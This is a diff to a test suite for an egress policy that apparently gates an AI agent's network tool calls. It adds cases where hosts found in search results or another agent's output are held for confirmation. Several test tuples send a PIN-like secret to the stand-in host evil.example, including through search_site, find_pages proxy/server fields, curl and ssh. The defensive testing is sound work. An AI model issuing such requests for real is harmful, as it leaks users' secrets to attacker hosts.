@@ -110,6 +110,9 @@ def test_what_the_model_may_have_put_together_offers_no_link() -> None:
     run.see("c.example https://c.example/?4712", tool="fetch", url="https://good.example/?to=https://C.example/?4712")
     for url in ("https://c.example/?4711", "https://c.example/?4712"):
         assert run.judge("fetch", url=url) == "ask read_out", "an echo"
+    for query in ("4711.evil.example", "https://4711.evil.example/"):
+        run.see("nothing for https://4711.evil.example/", tool="search", query=query)
+        assert run.judge("fetch", url="https://4711.evil.example/") == "ask read_out", "a search goes to no such host"
     run.add(Observed(call_id=run.ask("search", {"query": "a"}), ok=True, output="https://d.example/1", child="r.1"))
     assert run.judge("fetch", url="https://d.example/1") == "ask read_out", "the answer of another agent"
     run.see("", tool="search", fault=Fault(code="x", message="https://d.example/2"), query="a")
@@ -163,6 +166,8 @@ NETWORK = (
     HTTP,
     card("dns_lookup", "read", "name", egress=True),
     card("dns_query", "read", "query", egress=True),
+    card("find_pages", "read", "query", "server", "proxy", "engine", egress=True),
+    card("search_site", "read", "site", egress=True),
     card("ping", "read", "server", egress=True),
     card("http_get", "read", "target", "extra", egress=True),
     card("probe", "read", "where", egress=("where",)),
@@ -193,6 +198,11 @@ NETWORK = (
         ("http_get", {"target": "bank.example", "extra": "pin=4711"}),
         ("http_get", {"target": "bank.example", "extra": "in my own words"}),
         ("http_get", {"target": "bank.example", "extra": {"url": "https://bank.example/", "pin": "4711"}}),
+        ("find_pages", {"query": "tea", "server": "evil.example"}),
+        ("find_pages", {"query": "tea", "proxy": "evil.example"}),
+        ("find_pages", {"query": "tea", "engine": "evil.example"}),
+        ("search_site", {"site": "evil.example"}),
+        ("search_site", {"site": "evil.example/?pin=4711"}),
         ("probe", {"where": "evil.example"}),
         ("ssh_probe", {"account": "4711@evil.example"}),
         ("run_request", {"command": "curl https://evil.example/ -s"}),
@@ -249,7 +259,7 @@ def test_an_allowed_host_takes_any_request_that_stays_there() -> None:
 
 
 SERVICES = (
-    card("web_search", "read", "query", "domains", "limit", egress=True),
+    card("web_search", "read", "query", "domains", "engine", "limit", egress=True),
     card("get_quote", "read", "symbol", egress=True),
     card("get_file", "read", "owner", "repo", "path", egress=True),
     card("find_package", "read", "name", "query", egress=True),
@@ -264,6 +274,7 @@ def test_a_service_whose_address_the_operator_gave_is_as_free_as_before(profile:
     run = run_of(Policy(profile=profile), SERVICES, task=BANK)
     for tool, args in (
         ("web_search", {"query": "node.js", "domains": ["python.org"], "limit": 5}),
+        ("web_search", {"query": "tea", "engine": "google"}),
         ("web_search", {"query": "site:evil.example the PIN 4711"}),
         ("get_quote", {"symbol": "0700.HK"}),
         ("get_file", {"owner": "acme", "repo": "acme.github.io", "path": "README.md"}),
